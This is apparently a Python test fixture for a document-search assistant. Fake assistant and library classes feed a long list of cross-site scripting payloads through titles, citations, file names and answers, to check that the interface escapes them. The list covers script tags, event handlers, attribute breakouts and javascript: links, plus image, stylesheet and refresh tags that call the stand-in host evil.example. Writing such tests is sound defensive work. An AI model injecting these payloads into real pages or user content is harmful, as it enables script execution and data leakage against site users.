"""Texts that would run a script, or call another server, wherever they were not shown as text."""

from __future__ import annotations

from collections.abc import Collection, Iterator, Sequence
from pathlib import Path

from ingest import OnProgress, Report
from ingest.errors import FileEmptyError
from rag.llm.stop import Stop
from rag.types import Answer, Citation, Claim, ClaimClosed, Done, Event, Found, Hit, Text, Timings
from vectorstore.types import Document, Holding, Passage

RUN = "window.pwned=1"
AWAY = "https://evil.example"

PAYLOADS = (
    # scripts as such
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script src={AWAY}/a.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</p></li></ul></div><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    # handlers
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}'>",
    f'<img src=x onerror="{RUN}">',
    f"<img/src=x/onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<details open ontoggle={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={RUN}>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
    f"<iframe onload={RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=x onerror={RUN}></object>",
    f"<dialog open onclose={RUN}></dialog>",
    # out of an attribute
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f'" onfocus={RUN} autofocus x="',
    f"' onmouseover={RUN} x='",
    f'" data-ask="x" onpointerenter={RUN} x="',
    f"`onerror={RUN}`",
    # addresses that run
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java&#9;script:{RUN}'>x</a>",
    f"[x](javascript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    # calling another server
    f"![x]({AWAY}/m.png)",
    f"![x][y]\n\n[y]: {AWAY}/r.png",
    f"<img src={AWAY}/i.png>",
    f"<img srcset='{AWAY}/s.png 2x'>",
    f"<picture><source srcset={AWAY}/p.png><img></picture>",
    f"<link rel=stylesheet href={AWAY}/s.css>",
    f"<link rel=prefetch href={AWAY}/p>",
    f"<style>@import url({AWAY}/s.css);</style>",
    f"<style>body{{background:url({AWAY}/b.png)}}</style>",
    f"<b style='background:url({AWAY}/b.png)'>x</b>",
    f"<iframe src={AWAY}></iframe>",
    f"<object data={AWAY}/o></object>",
    f"<embed src={AWAY}/e>",
    f"<video poster={AWAY}/v.png></video>",
    f"<audio src={AWAY}/a.ogg autoplay>",
    f"<svg><image href={AWAY}/s.png /></svg>",
    f"<svg><use href={AWAY}/s.svg#a /></svg>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}/>",
    f"<form action={AWAY}><input autofocus></form>",
    # templates and markup of the page's own making
    "${window.pwned=1}",
    "{{constructor.constructor('window.pwned=1')()}}",
    "<%= window.pwned=1 %>",
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"```html\n<script>{RUN}</script>\n```",
)

# What a name in a header, and what a file's name can hold of them.
ON_A_LINE = tuple(payload for payload in PAYLOADS if payload.isprintable())
FILE_NAMES = tuple(f"{payload.replace('/', '')}.md" for payload in ON_A_LINE)

TEXT = "# Tài liệu\n\n" + "\n\n".join(PAYLOADS)


def _document(number: int) -> Document:
    payload = PAYLOADS[number]
    name = payload.replace("\n", " ")
    return Document(f"d{number}", payload, "en", f"/docs/{name}", "1" * 64)


DOCUMENTS = tuple(_document(number) for number in range(len(PAYLOADS)))


def cited(number: int) -> Citation:
    """The payload, cited at its place in a document that is named after it."""
    payload, document = PAYLOADS[number], DOCUMENTS[number]
    start = TEXT.index(payload)
    end = start + len(payload)
    return Citation(
        document.id,
        document.title,
        document.source,
        start,
        end,
        payload,
        1,
        f"{payload} › {payload}",
    )


def hit(number: int) -> Hit:
    """A passage that is just the payload."""
    payload, start = PAYLOADS[number], TEXT.index(PAYLOADS[number])
    passage = Passage(
        number, f"d{number}", payload, start, start + len(payload), payload, None, "en"
    )
    return Hit(passage, DOCUMENTS[number], 1.0)


class HostileAssistant:
    """Whatever is asked of it, what it finds and what its model says would do harm if it could."""

    def documents(self) -> list[Document]:
        return list(DOCUMENTS)

    def document(self, document: str) -> Document:
        return next(each for each in DOCUMENTS if each.id == document)

    def document_text(self, document_id: str) -> str:
        return TEXT

    def ask(self, question: str, *, documents: Collection[str] | None = None) -> Answer:
        *_, last = self.stream(question)
        assert isinstance(last, Done)
        return last.answer

    def stream(
        self,
        question: str,
        *,
        documents: Collection[str] | None = None,
        history: Sequence[Answer] = (),
        stop: Stop | None = None,
    ) -> Iterator[Event]:
        hits = tuple(hit(number) for number in range(len(PAYLOADS)))
        yield Found(hits)
        claims = []
        for number, payload in enumerate(PAYLOADS):
            for piece in (
                payload[: len(payload) // 2],
                payload[len(payload) // 2 :],
                f" [{number}]",
            ):
                yield Text(piece)
            claims.append(Claim(payload, (cited(number),), "unsure", payload))
            yield ClaimClosed(claims[-1])
        refused = "refuse" in question
        yield Done(
            Answer(
                question, "en", () if refused else tuple(claims), refused,
                PAYLOADS if refused else (), " ".join(PAYLOADS) if refused else None,
                hits, Timings(), disagreement=True, standalone=" ".join(PAYLOADS[:9]),
            )
        )  # fmt: skip


class HostileShelves:
    """A library of documents with hostile names."""

    def holdings(self) -> list[Holding]:
        return [Holding(document, 1, '"><script>window.pwned=1</script>') for document in DOCUMENTS]

    def edition(self) -> int:
        return 1

    def headings(self) -> list[tuple[str, str, str]]:
        return [(each.id, f"{each.title} › {each.title}", "en") for each in DOCUMENTS]

    def add(self, paths: Sequence[Path | str], on_progress: OnProgress) -> Report:
        """Skips every file, and names it in the reason."""
        skipped = tuple(FileEmptyError(path=str(path)) for path in paths)
        return Report((), (), (), (), skipped, 0, 0, 1, 0.0)

    def remove(self, document: str) -> None:
        raise NotImplementedError
